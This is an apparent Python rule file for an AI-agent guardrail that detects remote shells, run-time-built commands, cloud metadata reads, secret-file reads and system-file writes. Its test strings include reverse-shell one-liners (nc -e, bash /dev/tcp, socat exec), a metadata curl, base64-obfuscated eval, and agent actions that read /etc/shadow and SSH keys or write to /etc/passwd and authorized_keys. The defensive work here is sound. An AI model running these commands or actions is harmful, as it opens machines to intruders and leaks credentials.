"""Floors for what opens a machine to others: shells over the network, commands built at run time, stolen files."""

from riskgate.core.action import Action
from riskgate.core.levels import Level
from riskgate.core.scoring.packs.guardrails.patterns import SYSTEM_FILE, command
from riskgate.core.scoring.rules import Part, Rule

_METADATA = (
    rb"(?:169\.254\.169\.254|\[::ffff:169\.254\.169\.254\]|\[fd00:ec2::254\]|0xa9fea9fe|2852039166"
    rb"|metadata\.google\.internal|100\.100\.100\.200)"
)
_PATH = rb"(?:file://)?(?:[^\n]*/)?"
_SECRET_FILE = (
    rb"(?:etc/g?shadow|\.ssh/id_[a-z0-9]+|\.aws/credentials|\.kube/config|\.pgpass|\.netrc|\.git-credentials"
    rb"|\.docker/config\.json|etc/kubernetes/admin\.conf|proc/(?:self|1)/environ)"
)

ENTRY = (
    Rule(
        id="guardrails.entry.remote-shell",
        family="guardrails.entry",
        part=Part.COMMAND,
        pattern=command(
            rb"(?:nc|ncat|netcat) ... (?:-[a-z]*[ec]|--exec|--sh-exec)[ =]?(?:[^ |<>]*/)?(?:(?:ba|z|da"
            rb"|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)"
            rb"|(?:ba|z|k)?sh ... -i(?: [^ |]+)* [<>] /dev/(?:tcp|udp)/[^ |<>]+|socat ... exec:[^ |<>]+"
        ),
        heads=("nc", "ncat", "netcat", "sh", "bash", "zsh", "ksh", "socat"),
        floor=Level.CRITICAL,
        sentence="It gives whoever is at the other end a shell on this machine.",
        phrase="opens a remote shell",
        match=(
            "nc -e /bin/sh 1.2.3.4 4444",
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "socat tcp:x:1 exec:/bin/sh",
        ),
        no_match=(
            "nc -zv host 22",
            "nc -l 8080",
            "bash -c '</dev/tcp/host/80'",
            "bash -i",
            "echo nc -e /bin/sh x 1",
        ),
    ),
    Rule(
        id="guardrails.entry.built-command",
        family="guardrails.entry",
        part=Part.COMMAND,
        pattern=rb"^((?:\$\(|`)[^ |<>]+)(?:$| )|^(\$\{?[A-Za-z_][A-Za-z0-9_]*\}?(?:\$\{?[A-Za-z0-9_]+\}?)*"
        rb"(?: [^ |<>]+)* -(?:[a-z]*r[a-z]*f|[a-z]*f[a-z]*r)[a-z]*)(?:$| )|^(eval (?:-- )?(?:\$\(|`)[^ |<>]+)",
        unless=rb"^(?:eval (?:-- )?)?(?:\$\(|`)(?:[a-z/.]*/)?"
        rb"(?:(?:which|command\xa0-v|type\xa0-p|brew\xa0--prefix|go\xa0env)"
        rb"\xa0[A-Za-z0-9_./-]+|(?:npm|yarn)\xa0bin|(?:ssh-agent|keychain|dircolors|thefuck|conda|mamba"
        rb"|fnm|opam|direnv"
        rb"|starship|zoxide|(?:py|rb|nod|goen|j)env|brew\xa0shellenv|minikube\xa0(?:docker"
        rb"|podman)-env)(?:\xa0[A-Za-z0-9_./=-]+)*)[)`]",
        runs=True,
        words=("$", "`"),
        floor=Level.HIGH,
        sentence="The command is put together while it runs, so what it will do cannot be read.",
        phrase="builds its own command",
        match=("$(echo rm) -rf x", "`echo rm` x", "eval $(echo cm0= | base64 -d)", "$CMD -rf x"),
        no_match=(
            "$(which python) -m pytest",
            "$(npm bin)/eslint .",
            '"$(dirname "$0")/run.sh"',
            "eval $(ssh-agent -s)",
            'eval "$(brew shellenv)"',
            "$EDITOR a.txt",
            "X=$(date); echo $X",
            "echo $(date)",
        ),
    ),
    Rule(
        id="guardrails.entry.metadata",
        family="guardrails.entry",
        part=Part.TEXT,
        pattern=rb"(?:^|[\xff\"'`])((?i:https?://)?(?i:%s)(?:[:/][^\xff\s\"'`]*)?)(?:$|[\xff\s\"'`])"
        % _METADATA,
        floor=Level.HIGH,
        sentence="The metadata address of a cloud machine answers with the keys of its account.",
        phrase="reads cloud metadata",
        match=(
            "http://169.254.169.254/latest/meta-data/iam/",
            "requests.get('http://169.254.169.254/latest')",
        ),
        no_match=(
            "http://169.254.1.1/",
            "block http://169.254.169.254/ in the proxy",
            "http://1169.254.169.254.example/",
        ),
    ),
    Rule(
        id="guardrails.entry.metadata-command",
        family="guardrails.entry",
        part=Part.COMMAND,
        pattern=command(
            rb"(?:curl|wget|http|https|fetch|nc) ... (?:https?://)?%s(?:[:/][^ |<>]*)?" % _METADATA
        )
        + rb"(?:$| )",
        heads=("curl", "wget", "http", "https", "fetch", "nc"),
        floor=Level.HIGH,
        sentence="The metadata address of a cloud machine answers with the keys of its account.",
        phrase="reads cloud metadata",
        match=("curl http://169.254.169.254/latest/meta-data/", "wget -qO- 169.254.169.254/x"),
        no_match=("curl http://169.254.1.1/", "ping 169.254.169.254", "echo curl http://169.254.169.254/"),
    ),
    Rule(
        id="guardrails.entry.read-secret-file",
        family="guardrails.entry",
        part=Part.CALL,
        pattern=rb"(?:^| )(read|get|cat|open|load|view|show|fetch|download|copy|send|upload"
        rb"|attach|share|print|export|import|include)(?: |$)",
        needs=rb"(?:^|\n)[^\n=]*=%s%s(?:$|\n)" % (_PATH, _SECRET_FILE),
        floor=Level.HIGH,
        sentence="It reads a file of passwords or keys, and what is read goes to the agent and its logs.",
        phrase="reads a secret file",
        match=(
            Action("read_file", ("/etc/shadow",)),
            Action("fs.readFile", kwargs={"path": "/root/.ssh/id_rsa"}),
            Action("get", ("../../../etc/shadow",)),
        ),
        no_match=(
            Action("read_file", ("/etc/hosts",)),
            Action("read_file", ("/home/u/.ssh/id_rsa.pub",)),
            Action("search", ("/etc/shadow",)),
            Action("read_file", ("docs/etc/shadowing.md",)),
        ),
    ),
    Rule(
        id="guardrails.entry.write-system-file",
        family="guardrails.entry",
        part=Part.CALL,
        pattern=rb"(?:^| )(write|save|append|create|edit|put|upload|modify|delete|remove|unlink"
        rb"|update|set|patch|replace|move|copy|insert|truncate|overwrite|rename|chmod)(?: |$)",
        needs=rb"(?:^|\n)[^\n=]*=(?:file://)?(?:%s|[^\n]*\.\./etc/(?:passwd|shadow|sudoers)|(?:~|/home/[^/\n]+|/root)/\.(?:bashrc|bash_profile|profile|zshrc|zprofile))(?:$|\n)"
        % SYSTEM_FILE,
        unless=rb"^(?:get|list|read|fetch|search|find|check|view|show|describe|count|is|has) ",
        floor=Level.HIGH,
        sentence="It changes a file that decides who may enter the machine and what it runs.",
        phrase="changes a system file",
        match=(
            Action("write_file", ("/etc/passwd", "evil::0:0")),
            Action("write_file", kwargs={"path": "/root/.ssh/authorized_keys", "text": "k"}),
            Action("writeFile", ("/etc/cron.d/x", "* * * * * root x")),
            Action("append_to_file", ("/home/u/.bashrc", "x")),
        ),
        no_match=(
            Action("read_file", ("/etc/passwd",)),
            Action("write_file", ("src/etc/passwd.py", "x")),
            Action("write_file", ("notes.md", "see /etc/passwd")),
            Action("list_files", ("/boot/grub",)),
        ),
    ),
)
